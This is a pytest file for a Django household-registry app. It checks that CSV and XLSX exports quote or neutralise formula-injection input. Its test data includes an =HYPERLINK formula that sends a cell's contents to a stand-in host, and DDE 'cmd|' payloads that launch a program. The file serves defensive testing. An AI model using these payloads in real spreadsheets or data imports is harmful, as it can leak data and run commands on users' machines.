"""Formula injection: a name such as =HYPERLINK(...) never reaches a spreadsheet as a live formula.

XLSX: no cell of any export is a formula (no <f> element in the sheet's XML) and the text is kept as typed.
CSV: a cell that starts with = + - @ (or a tab or CR) and is not a number gets a leading ' (OWASP); numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone

from jingzhun import cells
from jingzhun.appraisal import notices, workflow
from jingzhun.appraisal.models import Notice
from jingzhun.areas.models import Area
from jingzhun.registry.exporter import export_register
from jingzhun.registry.models import Household, Member, StatusEvent
from tests.factories import VILLAGE

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://e.vil/?"&A1,"点击")'  # fits a name (40 characters)
EVIL_CELLS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def xlsx_texts(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))


def assert_no_formula(data: bytes) -> None:
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml, re.findall(r"<f[ >].*?</f>", xml)[:3]


@pytest.mark.parametrize("value", EVIL_CELLS)
def test_formula_like_text_is_quoted_for_csv(value):
    assert cells.text(value) == "'" + value


@pytest.mark.parametrize("value", ["-800", "-800.50", "+3.5", "1e3", "-.5", "王大山", "A101-1", "", "430124********1234"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert cells.text(value) == value


def test_xlsx_cells_are_numbers_or_text_never_formulas(tmp_path):
    path = tmp_path / "t.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    cells.write_row(sheet, 0, 0, [*EVIL_CELLS, -800, 3.5])
    book.close()
    data = path.read_bytes()
    assert_no_formula(data)
    xml = sheet_xml(data)
    assert "<v>-800</v>" in xml and "<v>3.5</v>" in xml  # numbers stay numbers


def _evil_household() -> Household:
    """A101-1 with a head called EVIL, written straight into the database (as a hostile import could)."""
    h = Household.objects.get(number="A101-1")
    Member.objects.filter(household=h, relation="head").update(name=EVIL)
    return h


def test_register_csv_export_quotes_formulas_and_keeps_negative_amounts(web, tmp_path):
    h = _evil_household()
    Household.objects.filter(pk=h.pk).update(status_reason="@SUM(1+1)")
    h.incomes.update(production_costs=800, property_income=-120)
    path = tmp_path / "out.csv"
    export_register(path, scope=None)
    rows = list(csv.reader(path.open(encoding="utf-8")))
    flat = [c for r in rows for c in r]
    assert "'" + EVIL in flat and EVIL not in flat
    assert "'@SUM(1+1)" in flat
    assert "-120" in flat or "-120.00" in flat  # a negative amount is a number, not quoted text
    assert not any(c.startswith(("=", "@")) for c in flat)


def test_register_xlsx_export_has_no_formula(web, tmp_path):
    _evil_household()
    path = tmp_path / "out.xlsx"
    export_register(path, scope=None)
    data = path.read_bytes()
    assert_no_formula(data)
    assert "HYPERLINK" in xlsx_texts(data)  # kept, as text


def test_yearly_difference_xlsx_has_no_formula(web):
    h = Household.objects.get(number="A101-1")
    StatusEvent.objects.create(household=h, status="exited", year=2020, recorded_at=timezone.now())
    Household.objects.filter(pk=h.pk).update(number=EVIL[:32])
    Area.objects.filter(code=VILLAGE).update(name="=1+2")
    response = web.client("officer_a").get(reverse("web:yearly_export") + "?year=2020")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert_no_formula(data)
    texts = xlsx_texts(data)
    assert "=1+2" in texts and "HYPERLINK" in texts


def test_notice_xlsx_has_no_formula(web, tmp_path):
    h = _evil_household()
    Area.objects.filter(code=VILLAGE).update(name="=cmd|'/C calc'!A0")
    root = User.objects.get(username="root")
    app = workflow.apply(h, 2020, applied_by="甲", on=dt.date(2020, 3, 1), user=root)
    notice = Notice.objects.create(village_id=VILLAGE, stage="first", year=2020, starts_on=dt.date(2020, 3, 2),
                                   ends_on=dt.date(2020, 3, 8), days=7, contact="=1+1", published_by="root")
    notice.applications.add(app)
    path = notices.write_xlsx(Notice.objects.select_related("village__parent").get(pk=notice.pk),
                              tmp_path / "n.xlsx", root)
    data = Path(path).read_bytes()
    assert_no_formula(data)
    texts = xlsx_texts(data)
    assert "HYPERLINK" in texts and "=cmd|" in texts


def test_crosscheck_error_report_has_no_formula(tmp_path):
    from jingzhun.crosscheck.management.commands.crosscheck import _write_report

    path = tmp_path / "r.xlsx"
    _write_report([(2, "姓名", EVIL, "必填"), (3, "金额", "-5", "=1")], str(path))
    data = path.read_bytes()
    assert_no_formula(data)
    assert "HYPERLINK" in xlsx_texts(data)


@pytest.mark.parametrize("kind", ["units", "unit_links", "secondments"])
def test_organisation_xlsx_exports_have_no_formula(web, kind):
    """Units, their links and secondments come from officers' files: a unit named =HYPERLINK(…) and a
    secondment's post "=1+2" leave the export as text."""
    from jingzhun.organisation.models import Secondment, Unit
    from tests.web_cast import add_organisation

    add_organisation()
    Unit.objects.filter(name="龙山县水利局").update(name=EVIL[:60])
    Secondment.objects.update(post="=1+2", purpose="@SUM(A1:A9)")
    response = web.client("officer_a").get(reverse("organisation:export", args=[kind]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert_no_formula(data)
    texts = xlsx_texts(data)
    assert ("=1+2" in texts and "@SUM(A1:A9)" in texts) if kind == "secondments" else "HYPERLINK" in texts
